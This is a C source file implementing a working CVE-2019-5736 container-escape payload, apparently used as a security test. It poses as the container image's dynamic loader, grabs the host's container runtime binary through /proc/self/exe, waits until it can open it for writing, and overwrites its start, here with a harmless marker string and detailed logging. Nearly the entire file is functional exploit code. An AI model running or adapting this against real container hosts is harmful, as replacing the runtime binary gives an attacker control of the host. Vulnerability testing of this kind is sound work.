/*
 * CVE-2019-5736 payload: an image's dynamic loader that overwrites the runtime binary.
 *
 * Placed in the container's rootfs at the path the runtime binary names as its ELF
 * interpreter (/lib64/ld-linux-x86-64.so.2). When the container's process is
 * /proc/self/exe (or a `#!/proc/self/exe` script) and the runtime execs it while its own
 * exe is still the host's runtime binary, the kernel maps the host binary and runs THIS
 * file as its loader: /proc/self/exe is then the host binary.
 *
 *   loader mode (any argv[0] but "sec-writer"): open /proc/self/exe O_PATH (fd N, kept
 *   across exec), then become the writer: as PID 1 by exec'ing itself in place, else by
 *   forking a writer (new session) and exiting so that the runtime's `exec` returns.
 *   writer mode (argv = sec-writer N): the process no longer runs the runtime binary, so
 *   once no runtime process is left the open of /proc/self/fd/N for writing stops failing
 *   with ETXTBSY: retry for up to 3 s, then write a marker at offset 0.
 *
 * Every step is logged to /results/$SEC_TAG.log (a host dir bind-mounted by the test), so
 * the test knows the payload ran, what it opened and whether the write went through.
 *
 * Freestanding (no libc): as a loader it starts with the main program's auxv, which a libc
 * start-up would misread; linked at 1 GiB so it collides with neither a non-PIE runtime at
 * 0x400000 nor a PIE one.
 */
typedef unsigned long u64;
typedef long i64;

#define SYS_read 0
#define SYS_write 1
#define SYS_open 2
#define SYS_close 3
#define SYS_pwrite64 18
#define SYS_nanosleep 35
#define SYS_getpid 39
#define SYS_fork 57
#define SYS_execve 59
#define SYS_exit 60
#define SYS_readlink 89
#define SYS_setsid 112
#define SYS_exit_group 231

#define O_WRONLY 01
#define O_CREAT 0100
#define O_APPEND 02000
#define O_CLOEXEC 02000000
#define O_PATH 010000000
#define ETXTBSY 26

static i64 sys6(i64 n, i64 a, i64 b, i64 c, i64 d, i64 e, i64 f) {
    i64 ret;
    register i64 r10 __asm__("r10") = d;
    register i64 r8 __asm__("r8") = e;
    register i64 r9 __asm__("r9") = f;
    __asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return ret;
}
#define sys3(n, a, b, c) sys6(n, (i64)(a), (i64)(b), (i64)(c), 0, 0, 0)

static u64 slen(const char *s) { u64 n = 0; while (s[n]) n++; return n; }
static int seq(const char *a, const char *b) {
    while (*a && *a == *b) { a++; b++; }
    return *a == *b;
}
static int pfx(const char *s, const char *p) {
    while (*p) if (*s++ != *p++) return 0;
    return 1;
}
static char *num(char *p, i64 v) {  /* appends decimal v, returns the end */
    char t[24]; int n = 0;
    if (v < 0) { *p++ = '-'; v = -v; }
    do { t[n++] = '0' + v % 10; v /= 10; } while (v);
    while (n) *p++ = t[--n];
    return p;
}
static char *cat(char *p, const char *s) { while (*s) *p++ = *s++; return p; }

static char logpath[256];
static void logline(const char *what, i64 v) {
    char buf[512], *p = buf;
    p = cat(p, what); p = cat(p, " "); p = num(p, v); *p++ = '\n';
    i64 fd = sys3(SYS_open, logpath, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (fd >= 0) { sys3(SYS_write, fd, buf, p - buf); sys3(SYS_close, fd, 0, 0); }
}
static void logtext(const char *what, const char *s) {
    char buf[512], *p = buf;
    p = cat(p, what); p = cat(p, " ");
    for (u64 i = 0; s[i] && i < 400; i++) *p++ = s[i];
    *p++ = '\n';
    i64 fd = sys3(SYS_open, logpath, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (fd >= 0) { sys3(SYS_write, fd, buf, p - buf); sys3(SYS_close, fd, 0, 0); }
}
static i64 toint(const char *s) { i64 v = 0; while (*s >= '0' && *s <= '9') v = v * 10 + (*s++ - '0'); return v; }

static void writer(i64 fd, char **envp) {
    (void)envp;
    char path[64], *p = cat(path, "/proc/self/fd/");
    *num(p, fd) = 0;
    char lnk[256];
    i64 n = sys3(SYS_readlink, path, lnk, sizeof lnk - 1);
    if (n > 0) { lnk[n] = 0; logtext("writer-target", lnk); }
    struct { i64 s, ns; } ts = {0, 10 * 1000 * 1000};
    i64 w = -1, tries;
    for (tries = 1; tries <= 300; tries++) {
        w = sys3(SYS_open, path, O_WRONLY, 0);
        if (w != -ETXTBSY) break;
        sys3(SYS_nanosleep, &ts, 0, 0);
    }
    if (w < 0) {
        logline("open-wronly-errno", -w);
        logline("open-wronly-tries", tries);
    } else {
        logline("open-wronly-ok-after-tries", tries);
        static const char mark[] = "SECTEST-CVE-2019-5736-OVERWRITTEN";
        i64 r = sys6(SYS_pwrite64, w, (i64)mark, sizeof mark - 1, 0, 0, 0);
        logline(r > 0 ? "write-ok-bytes" : "write-errno", r > 0 ? r : -r);
    }
    logline("writer-done", 0);
}

void cmain(i64 *sp) {
    i64 argc = sp[0];
    char **argv = (char **)(sp + 1), **envp = argv + argc + 1;
    const char *tag = "payload", *self = "/lib64/ld-linux-x86-64.so.2";
    for (char **e = envp; *e; e++) {
        if (pfx(*e, "SEC_TAG=")) tag = *e + 8;
        if (pfx(*e, "SEC_SELF=")) self = *e + 9;
    }
    *cat(cat(cat(logpath, "/results/"), tag), ".log") = 0;

    if (argc >= 2 && seq(argv[0], "sec-writer")) {
        writer(toint(argv[1]), envp);
        sys3(SYS_exit_group, 0, 0, 0);
    }

    i64 pid = sys3(SYS_getpid, 0, 0, 0);
    char lnk[256];
    i64 n = sys3(SYS_readlink, "/proc/self/exe", lnk, sizeof lnk - 1);
    lnk[n > 0 ? n : 0] = 0;
    logtext("ran-as-loader exe", lnk);
    logline("pid", pid);
    i64 fd = sys3(SYS_open, "/proc/self/exe", O_PATH, 0);
    if (fd < 0) {
        logline("opath-errno", -fd);
        sys3(SYS_exit_group, 0, 0, 0);
    }
    logline("opath-fd", fd);

    char fdstr[24];
    *num(fdstr, fd) = 0;
    char *wargv[] = {"sec-writer", fdstr, 0};
    if (pid != 1) {
        i64 c = sys3(SYS_fork, 0, 0, 0);
        if (c != 0) sys3(SYS_exit_group, 0, 0, 0);  /* parent: let the runtime's exec return */
        sys3(SYS_setsid, 0, 0, 0);
    }
    i64 e = sys3(SYS_execve, self, wargv, envp);
    logline("execve-writer-errno", -e);
    sys3(SYS_exit_group, 1, 0, 0);
}

__asm__(".globl _start\n_start:\n\txor %rbp,%rbp\n\tmov %rsp,%rdi\n\tand $-16,%rsp\n\tcall cmain\n\thlt\n");
